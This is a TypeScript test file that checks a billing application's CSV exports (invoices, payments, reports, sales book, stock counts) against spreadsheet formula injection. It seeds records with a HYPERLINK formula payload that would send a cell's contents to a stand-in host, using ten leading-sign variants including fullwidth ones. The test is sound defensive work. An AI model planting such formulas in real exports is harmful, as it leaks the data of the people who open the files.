import { beforeAll, describe, expect, test } from 'vitest';
import { euros } from '#shared/base/money.ts';
import { paymentCsvColumns } from '#shared/books/payment-csv.ts';
import { csv } from '#shared/i18n/csv.ts';
import { el } from '#shared/i18n/el/index.ts';
import { type Language, translator } from '#shared/i18n/translate.ts';
import { invoiceCsv } from '#web/billing/invoice/invoice-csv.ts';
import { accountantCsv, clientsCsv, salesBookCsv } from '#web/billing/report/report.ts';
import { countCsv, type WholeCount } from '#web/floor/count/count.ts';
import type { CsvFile } from '#web/kit/base/save-csv.ts';
import {
  makeClient,
  makeClientItem,
  makeInvoice,
  makePayment,
  makePlace,
  pricedJob,
} from './builders.ts';
import { databases, useServer } from './server.ts';

const t = translator(el);
/** What spreadsheets take for the beginning of a formula, also the wide ones of keyboards of the East. */
const signs = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'];
const formulaOf = (sign: string) => `${sign}1+HYPERLINK("http://a/?"&A1)`;

const textOf = <Row>({ columns, rows }: CsvFile<Row>, language: Language) =>
  csv({ columns: columns(t, language), rows, language });

describe.each(databases)('every file for a spreadsheet, of what %s answers,', (database) => {
  const server = useServer(database);
  const made = { count: '' };

  beforeAll(async () => {
    for (const [n, sign] of signs.entries()) {
      const formula = formulaOf(sign);
      const client = await makeClient(server, { companyName: formula, firstName: formula });
      const job = await pricedJob(server, client._id, 50);
      const invoice = await makeInvoice(server, { client: client._id, jobs: [job._id] });
      const invoices = [{ invoice: invoice._id, amount: euros(10) }];
      await makePayment(server, { client: client._id, invoices, notes: formula });
      const place = (await makePlace(server, { code: `${sign.trim()}${n}` }))._id;
      const piece = await makeClientItem(server, { client: client._id, title: formula });
      const stay = { clientItem: piece._id, startDate: '2026-03-04', notes: 'Ράφι', place };
      await server.ok('POST /stay', { body: stay });
    }
    const { _id } = await server.ok('POST /count', { body: { place: null } });
    for (const [n, sign] of signs.entries()) {
      const at = '2026-03-05T09:00:00.000Z';
      const body = { id: `scan-0000${n}`, at, code: formulaOf(sign), place: null };
      await server.ok('POST /count/:id/scan', { params: { id: _id }, body });
    }
    made.count = _id;
  });

  const everything = { from: '2000-01-01', to: '2099-12-31' };
  /** The call of each, and the file that the browser makes of its answer. */
  const files: Record<string, (language: Language) => Promise<string>> = {
    invoices: async (language) => {
      const body = { page: 1, size: 99_999_999 };
      const { data: rows } = await server.ok('POST /invoice/search', { body });
      return invoiceCsv({ rows, t, language });
    },
    payments: async (language) => {
      const body = { page: 1, size: 99_999_999 };
      const { data: rows } = await server.ok('POST /payment/search', { body });
      return csv({ columns: paymentCsvColumns(t, 'book'), rows, language });
    },
    'the accountant’s report': async (language) => {
      const body = { filters: everything, showAll: true };
      const report = await server.ok('POST /report/accountant-balance-report', { body });
      return textOf(accountantCsv(report, everything), language);
    },
    'what clients owe': async (language) => {
      const body = { filters: everything };
      const report = await server.ok('POST /report/clients-balance-report', { body });
      return textOf(clientsCsv(report), language);
    },
    'the sales book': async (language) => {
      const body = { filters: everything };
      const book = await server.ok('POST /report/sales-book', { body });
      return textOf(salesBookCsv(book, { ...everything, by: 'invoice' }), language);
    },
    'a count': async (language) => {
      const count = { params: { id: made.count }, query: {} };
      const answer = await server.send('GET /count/:id', count);
      return textOf(countCsv(answer.json<WholeCount>()), language);
    },
  };

  test.each(Object.keys(files))(
    '%s: no cell is a formula, and every text is there',
    async (name) => {
      for (const language of ['el', 'en'] as const) {
        const rows = cellsOf((await files[name]?.(language)) ?? '', language === 'el' ? ';' : ',');
        expect(rows.length).toBeGreaterThan(signs.length);
        const cells = rows.flat();
        expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
        for (const sign of signs) expect(cells).toContain(`'${formulaOf(sign).trim()}`);
      }
    },
  );
});

/** Reads by the grammar of RFC 4180, all cells quoted. */
function cellsOf(file: string, separator: string): string[][] {
  const pattern = new RegExp(`"((?:[^"]|"")*)"(${separator}|\r\n)`, 'y');
  pattern.lastIndex = 1;
  const rows: string[][] = [[]];
  for (let match = pattern.exec(file); match !== null; match = pattern.exec(file)) {
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'));
    if (match[2] === '\r\n') rows.push([]);
  }
  expect(file[0]).toBe('\uFEFF');
  return rows.slice(0, -1);
}
